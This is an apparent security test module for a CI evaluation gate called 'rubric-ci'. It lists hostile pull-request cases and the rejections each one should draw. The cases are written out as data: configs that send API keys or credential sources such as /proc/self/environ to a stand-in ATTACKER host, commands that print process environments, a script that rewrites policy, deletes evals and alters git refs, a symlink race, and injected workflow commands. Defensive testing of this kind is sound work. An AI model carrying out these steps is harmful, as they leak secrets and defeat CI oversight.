"""Attacks through what answers: addresses, credentials, commands and links of targets."""

import json

from tests.security.hostile_pull_requests.attack import CONFIG, Attack
from tests.security.hostile_pull_requests.generator import Files

RECORDED = "{name: default, provider: recorded, answers: answers.jsonl}"
MODEL = (
    '{name: default, model: openai/gpt-6.1-sol, api_base: "JUDGE/v1", '
    'api_key: "${{ OPENAI_API_KEY }}"'
)
HELD = "which count after the merge"
NOT_YET = (
    f"rubric-ci: target `default` sets `api_base`, `api_key`, {HELD} under the policy of the base "
    "a target may set its model, texts and numbers; use the connection of another target of its "
    "provider, or merge this one first"
)
NOT_ALLOWED = (
    "rubric-ci: target `default`: rubric-ci.yaml:3 uses `${{ DEPLOY_TOKEN }}`, which is not "
    "allowed add DEPLOY_TOKEN to `env.allow` in rubric-ci.yaml; on a pull request, the list of the "
    "base commit holds"
)
EXTERNAL = json.dumps(
    {
        "type": "external_account",
        "token_url": "ATTACKER/token",
        "credential_source": {"file": "/proc/self/environ"},
    }
)


def target(
    written: str, files: Files | None = None, *, code: int = 2, said: tuple[str, ...] = (HELD,)
) -> Attack:
    """Return the attack of a head whose target is another."""
    head = {"rubric-ci.yaml": CONFIG.replace(RECORDED, written)}
    return Attack(head={**head, **(files or {})}, code=code, said=said)


def moved(option: str) -> Attack:
    """Return the attack of a target that the base has, with one more option at the head."""
    base = CONFIG.replace(RECORDED, MODEL + "}")
    head = base.replace(MODEL, f"{MODEL}, {option}")
    return Attack(
        base={"rubric-ci.yaml": base, "evals/b.eval.yaml": None},
        head={"rubric-ci.yaml": head, "creds.json": EXTERNAL},
        code=0,  # the answer is that of the base's model, and passes
    )


def command(
    line: str, files: Files | None = None, *, code: int = 1, said: tuple[str, ...] = ()
) -> Attack:
    """Return the attack of a command that answers."""
    written = f"{{name: default, provider: cli, command_template: {json.dumps(line)}}}"
    head = {"rubric-ci.yaml": CONFIG.replace(RECORDED, written), "evals/b.eval.yaml": None}
    return Attack(
        head={**head, **(files or {})},
        base={"rubric-ci.yaml": CONFIG.replace("on_weaker_grading: fail", "max_waivers: 0")},
        code=code,
        said=said,
        needs_shell=True,
    )


ATTACKS = {
    "a new model at another address": target(
        MODEL.replace("JUDGE", "ATTACKER") + "}", said=(NOT_YET,)
    ),
    "a new model with headers": target(
        MODEL + ', extra_headers: {x-token: "${{ DEPLOY_TOKEN }}"}}'
    ),
    "a new model with a file of credentials": target(
        "{name: default, model: vertex_ai/gemini-3.8-flash, vertex_credentials: creds.json}",
        files={"creds.json": EXTERNAL},
    ),
    "a variable in a text": target(
        MODEL + ', user: "${{ DEPLOY_TOKEN }}"}\nenv: {allow: [DEPLOY_TOKEN]}', said=(NOT_ALLOWED,)
    ),
    "a model of a local service": target(
        "{name: default, model: ollama/llama3}", code=3, said=("is not allowed",)
    ),
    "answers outside": target(
        "{name: default, provider: recorded, answers: ../outside/secret.txt}",
        code=3,
        said=("is outside the repository",),
    ),
    "answers through a link": target(
        "{name: default, provider: recorded, answers: linked.jsonl}",
        said=("is outside the repository",),
        files={"linked.jsonl": "-> ../outside/secret.txt"},
    ),
    "answers of a process": target(
        "{name: default, provider: recorded, answers: linked.jsonl}",
        said=("is outside the repository",),
        files={"linked.jsonl": "-> /proc/self/environ"},
    ),
    "a command that prints its environment": command("env"),
    "a command that prints the environment of its parent": command(
        "cat /proc/$PPID/environ; echo done"
    ),
    "a command that asks for a key": target(
        "{name: default, provider: cli, command_template: env, env: [DEPLOY_TOKEN]}",
        {"evals/b.eval.yaml": None},
        code=1,
        said=(),
    ),
    "a command that edits policy and evals": command(
        "sh target.sh",
        files={
            "target.sh": (
                "sed -i s/JUDGE/ATTACKER/ rubric-ci.yaml; echo 'gate: {fail_on: never}' "
                ">> rubric-ci.yaml; rm -r evals; git update-ref HEAD^1 HEAD; echo go away\n"
            )
        },
    ),
    "a command that makes the output folder a link": command(
        "sh target.sh",
        code=2,
        said=("not written: ", "remove the link on its way"),
        files={  # again, as a mark of the other side may be kept in a new folder meanwhile
            "target.sh": (
                "until [ -L .rubric-ci ]; do rm -rf .rubric-ci; ln -s ../outside .rubric-ci; done\n"
                "echo go away\n"
            )
        },
    ),
    "a command that writes a report": command(
        "sh target.sh",
        files={
            "target.sh": "echo '{}' > .rubric-ci/report.json; echo verdict=pass; echo go away\n"
        },
    ),
    "a command that writes workflow commands": command(
        "sh target.sh",
        files={"target.sh": "echo '::error::PWNED'; echo '::add-path::PWNED' >&2; exit 0\n"},
    ),
    "a command that ends at once with an order": command(
        "sh target.sh", code=3, files={"target.sh": "echo '::notice::PWNED' >&2; exit 3\n"}
    ),
}
ATTACKS |= {
    f"a known target with {option.partition(':')[0]}": moved(option)
    for option in (
        "vertex_credentials: creds.json",
        'extra_headers: {x-token: "${{ DEPLOY_TOKEN }}"}',
        'base_url: "ATTACKER/v1"',
        'api_version: "ATTACKER"',
        'azure_ad_token: "ATTACKER"',
    )
}
